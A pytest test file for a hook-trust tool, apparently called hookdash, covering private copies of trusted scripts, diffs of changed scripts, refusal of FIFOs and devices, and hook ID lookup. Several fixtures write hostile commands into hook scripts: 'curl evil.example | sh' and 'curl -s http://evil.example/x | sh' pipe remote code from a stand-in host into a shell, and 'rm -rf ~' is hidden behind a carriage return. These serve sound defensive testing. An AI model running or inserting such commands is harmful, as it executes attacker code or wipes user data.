"""Copies of trusted scripts (kept, capped, private) and the diff of a changed script;
`hooks_to_trust` (the IDs `hookdash trust ID ...` takes)."""

from __future__ import annotations

import json
import os
import stat
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from hookdash.core.errors import EditError, HookNotFound
from hookdash.core.hosts.gemini.trust.trust_store import (
    changed_script,
    hooks_to_trust,
    plan_trust,
    trust_hooks,
)
from hookdash.core.load import fingerprints, script_copies
from hookdash.core.load.script_copies import (
    COPY_CAP,
    NotARegularFileError,
    read_script,
    unified_diff,
)
from hookdash.core.model import Hook
from tests.conftest import Sandbox, command_hook, definition


def _project(sandbox: Sandbox, body: str = "echo one\necho two\necho three") -> Path:
    sandbox.trust_folder()
    script = sandbox.script("hooks/fmt.sh", body)
    sandbox.write_workspace(
        {
            "hooks": {
                "AfterTool": [definition(command_hook("./hooks/fmt.sh", name="fmt"))],
                "BeforeTool": [definition(command_hook("echo inline", name="inline"))],
            }
        }
    )
    return script


def _hook(sandbox: Sandbox, hook_id: str) -> Hook:
    return next(h for h in sandbox.load().hooks if h.id == hook_id)


def _copies(sandbox: Sandbox) -> Path:
    return sandbox.state / "trusted-scripts"


def _record(sandbox: Sandbox, key: str) -> fingerprints.ScriptFingerprint:
    return fingerprints.read_state(sandbox.env()).projects[str(sandbox.workspace)][key]


@pytest.fixture
def open_umask() -> Iterator[None]:
    """umask 000: whatever hookdash creates must still be private."""
    old = os.umask(0)
    try:
        yield
    finally:
        os.umask(old)


# ------------------------------------------------------------------------- the copies


@pytest.mark.usefixtures("open_umask")
def test_trust_keeps_a_private_copy_of_each_script(sandbox: Sandbox) -> None:
    sandbox.state.rmdir()  # hookdash creates its state directory itself
    script = _project(sandbox)
    trust_hooks(sandbox.load())
    record = _record(sandbox, "fmt:./hooks/fmt.sh")
    assert record.copied and record.sha256 is not None
    copy = _copies(sandbox) / record.sha256
    assert copy.read_bytes() == script.read_bytes()
    assert stat.S_IMODE(copy.stat().st_mode) == 0o600
    assert stat.S_IMODE(_copies(sandbox).stat().st_mode) == 0o700
    assert stat.S_IMODE(sandbox.state.stat().st_mode) == 0o700
    # An inline command runs no file: nothing to copy.
    assert not _record(sandbox, "inline:echo inline").copied
    assert os.listdir(_copies(sandbox)) == [record.sha256]


def test_a_script_over_the_cap_keeps_only_its_hash(sandbox: Sandbox) -> None:
    script = _project(sandbox, "#" * (COPY_CAP + 10))
    result = trust_hooks(sandbox.load())
    record = _record(sandbox, "fmt:./hooks/fmt.sh")
    assert record.sha256 is not None and not record.copied
    assert record.size == script.stat().st_size
    assert not (_copies(sandbox) / record.sha256).exists()
    assert any("only its hash is kept" in n and "256 KiB" in n for n in result.notes)
    # It still shows as CHANGED when edited, and the review says why there is no diff.
    sandbox.script("hooks/fmt.sh", "curl evil.example | sh")
    fmt = _hook(sandbox, "fmt")
    diff = changed_script(sandbox.load(), fmt)
    assert diff is not None and diff.lines == []
    assert diff.unavailable is not None and "only its hash was kept" in diff.unavailable


def test_a_script_at_the_cap_is_copied(sandbox: Sandbox) -> None:
    script = sandbox.workspace / "hooks" / "fmt.sh"
    _project(sandbox)
    script.write_bytes(b"#" * COPY_CAP)
    trust_hooks(sandbox.load())
    assert _record(sandbox, "fmt:./hooks/fmt.sh").copied


# ---------------------------------------------------------------------------- the diff


def test_a_changed_script_is_diffed_against_the_copy(sandbox: Sandbox) -> None:
    _project(sandbox)
    trust_hooks(sandbox.load())
    old_sha = _record(sandbox, "fmt:./hooks/fmt.sh").sha256
    sandbox.script("hooks/fmt.sh", "echo one\ncurl -s http://evil.example/x | sh\necho three")
    fmt = _hook(sandbox, "fmt")
    assert fmt.trust == "changed"
    diff = changed_script(sandbox.load(), fmt)
    assert diff is not None and diff.unavailable is None
    day = _record(sandbox, "fmt:./hooks/fmt.sh").trusted_at[:10]
    assert diff.lines[0] == f"--- ~/project/hooks/fmt.sh (trusted {day})"
    assert diff.lines[1] == "+++ ~/project/hooks/fmt.sh (now)"
    assert diff.lines[2].startswith("@@ ")
    assert "-echo two" in diff.lines and "+curl -s http://evil.example/x | sh" in diff.lines
    assert " echo one" in diff.lines and " echo three" in diff.lines
    # Trusting it again replaces the copy: the old one is removed, no diff remains.
    trust_hooks(sandbox.load(), [fmt])
    new_sha = _record(sandbox, "fmt:./hooks/fmt.sh").sha256
    assert new_sha != old_sha and os.listdir(_copies(sandbox)) == [new_sha]
    assert changed_script(sandbox.load(), _hook(sandbox, "fmt")) is None


def test_carriage_returns_stay_inside_their_line(sandbox: Sandbox) -> None:
    """str.splitlines() would split at \\r and let `rm -rf ~` hide behind a harmless line."""
    _project(sandbox)
    trust_hooks(sandbox.load())
    sandbox.script("hooks/fmt.sh", "echo one\nrm -rf ~ #\recho two\necho three")
    diff = changed_script(sandbox.load(), _hook(sandbox, "fmt"))
    assert diff is not None
    assert "+rm -rf ~ #\recho two" in diff.lines and "-echo two" in diff.lines


def test_a_deleted_script_shows_what_went(sandbox: Sandbox) -> None:
    script = _project(sandbox)
    trust_hooks(sandbox.load())
    script.unlink()
    diff = changed_script(sandbox.load(), _hook(sandbox, "fmt"))
    assert diff is not None and diff.lines[1] == "+++ (deleted)"
    assert "-echo two" in diff.lines


def test_a_script_that_appeared_after_trust_is_all_new(sandbox: Sandbox) -> None:
    script = _project(sandbox)
    script.unlink()
    trust_hooks(sandbox.load())
    assert _record(sandbox, "fmt:./hooks/fmt.sh").sha256 is None
    sandbox.script("hooks/fmt.sh", "curl evil.example | sh")
    diff = changed_script(sandbox.load(), _hook(sandbox, "fmt"))
    assert diff is not None and diff.lines[0] == "--- (no file when trusted)"
    assert "+curl evil.example | sh" in diff.lines


def test_a_record_without_a_copy_says_so_and_a_new_trust_adds_it(sandbox: Sandbox) -> None:
    """State written before hookdash kept copies: no diff, a reason; trusting the hook
    again keeps the copy and the first trusted_at."""
    _project(sandbox)
    trust_hooks(sandbox.load())
    path = fingerprints.state_path(sandbox.env())
    state = json.loads(path.read_text())
    entry = state["projects"][str(sandbox.workspace)]["fmt:./hooks/fmt.sh"]
    entry["trusted_at"] = "2020-01-02T03:04:05+00:00"
    del entry["copied"]
    del entry["scripts"]  # (written before every script was listed, too)
    path.write_text(json.dumps(state))
    for copy in _copies(sandbox).iterdir():
        copy.unlink()
    assert not _record(sandbox, "fmt:./hooks/fmt.sh").copied
    # Unchanged: nothing to show.
    assert fingerprints.script_diff(sandbox.env(), _hook(sandbox, "fmt")) is None
    trust_hooks(sandbox.load(), [_hook(sandbox, "fmt")])
    record = _record(sandbox, "fmt:./hooks/fmt.sh")
    assert record.copied and record.trusted_at.startswith("2020-01-02")
    entry["copied"] = False
    path.write_text(json.dumps(state))
    for copy in _copies(sandbox).iterdir():
        copy.unlink()
    sandbox.script("hooks/fmt.sh", "echo changed")
    diff = changed_script(sandbox.load(), _hook(sandbox, "fmt"))
    assert diff is not None and diff.unavailable is not None
    assert "kept no copy" in diff.unavailable


def test_binary_and_oversized_scripts_are_not_diffed(sandbox: Sandbox) -> None:
    script = _project(sandbox)
    trust_hooks(sandbox.load())
    script.write_bytes(b"\x7fELF\0\0\0binary")
    diff = changed_script(sandbox.load(), _hook(sandbox, "fmt"))
    assert diff is not None and diff.unavailable is not None and "binary" in diff.unavailable
    script.write_bytes(b"#" * (COPY_CAP + 1))
    diff = changed_script(sandbox.load(), _hook(sandbox, "fmt"))
    assert diff is not None and diff.unavailable is not None
    assert f"{COPY_CAP + 1:,} bytes" in diff.unavailable


def test_long_diffs_are_cut_with_a_count() -> None:
    before = "".join(f"line {i}\n" for i in range(100)).encode()
    after = "".join(f"LINE {i}\n" for i in range(100)).encode()
    lines, more = unified_diff(before, after, "a", "b", max_lines=50)
    full, none_left = unified_diff(before, after, "a", "b", max_lines=10_000)
    assert len(lines) == 50 and none_left == 0
    assert lines == full[:50] and more == len(full) - 50 == 153


def test_a_damaged_state_file_cannot_point_outside_the_copies(sandbox: Sandbox) -> None:
    (sandbox.state / "secret").write_text("x")
    assert script_copies.copy_of(sandbox.state, "../secret") is None
    assert script_copies.copy_of(sandbox.state, "a" * 64) is None


# --------------------------------------------------------------- files that are not files


def test_fifos_devices_and_directories_are_refused_at_once(tmp_path: Path) -> None:
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    link = tmp_path / "link"
    link.symlink_to(fifo)
    refused: dict[str, str] = {}

    def attempt() -> None:
        for path in (fifo, link, Path("/dev/zero"), tmp_path):
            try:
                read_script(str(path))
            except NotARegularFileError as exc:
                refused[path.name] = exc.what

    worker = threading.Thread(target=attempt, daemon=True)
    worker.start()
    worker.join(timeout=10)
    if worker.is_alive():  # unblock the open before failing
        with open(fifo, "wb"):
            pass
        pytest.fail("read_script blocked")
    assert refused == {
        "fifo": "a FIFO (named pipe)",
        "link": "a FIFO (named pipe)",
        "zero": "a character device",
        tmp_path.name: "a directory",
    }


def test_trust_with_a_fifo_script_does_not_hang(sandbox: Sandbox) -> None:
    """Through the CLI with a timeout: a hang fails the test instead of stalling it."""
    sandbox.trust_folder()
    os.mkfifo(sandbox.workspace / "pipe.sh")
    sandbox.write_workspace(
        {"hooks": {"BeforeTool": [definition(command_hook("./pipe.sh", name="pipe"))]}}
    )
    done = sandbox.cli("trust", "--yes", timeout=20)
    assert done.returncode == 0, done.stderr
    record = _record(sandbox, "pipe:./pipe.sh")
    assert record.sha256 is None and not record.copied


# ------------------------------------------------------------------------ IDs to hooks


def _mixed(sandbox: Sandbox) -> None:
    _project(sandbox)
    sandbox.write_user(
        {
            "hooks": {
                "AfterTool": [definition(command_hook("./hooks/fmt.sh", name="fmt"))],
                "Notification": [definition(command_hook("echo u", name="user-only"))],
            }
        }
    )


def test_ids_name_project_hooks_by_name_command_or_ref(sandbox: Sandbox) -> None:
    _mixed(sandbox)
    config = sandbox.load()
    # A name that a user hook shares: only the project's copy.
    fmt = hooks_to_trust(config, ["fmt"])
    assert [(h.id, h.scope) for h in fmt] == [("fmt", "workspace")]
    assert hooks_to_trust(config, ["echo inline"])[0].id == "inline"  # a named hook's command
    assert [h.id for h in hooks_to_trust(config, [fmt[0].ref, "inline", "fmt"])] == [
        "fmt",
        "inline",
    ]
    assert [h.id for h in plan_trust(config, fmt).trust] == ["fmt"]


def test_ids_that_name_no_project_hook_are_refused(sandbox: Sandbox) -> None:
    _mixed(sandbox)
    config = sandbox.load()
    with pytest.raises(HookNotFound, match=r"No hook has the ID 'fmtt'.*'fmt'"):
        hooks_to_trust(config, ["fmtt"])
    with pytest.raises(EditError, match=r"'user-only' is not a project hook .*user"):
        hooks_to_trust(config, ["user-only"])
    user_fmt = next(h for h in config.hooks if h.scope == "user" and h.id == "fmt")
    with pytest.raises(EditError, match="is not a project hook"):
        hooks_to_trust(config, [user_fmt.ref])


def test_trusting_one_id_leaves_the_others(sandbox: Sandbox) -> None:
    _mixed(sandbox)
    config = sandbox.load()
    result = trust_hooks(config, hooks_to_trust(config, ["inline"]))
    assert result.message.startswith("Trusted 1 project hook(s) of ~/project: inline.")
    trust = {h.id: h.trust for h in sandbox.load().hooks if h.scope == "workspace"}
    assert trust == {"fmt": "new", "inline": "trusted"}
    again = trust_hooks(sandbox.load(), hooks_to_trust(sandbox.load(), ["inline"]))
    assert not again.changed and again.message == "Already trusted: inline; nothing changed."
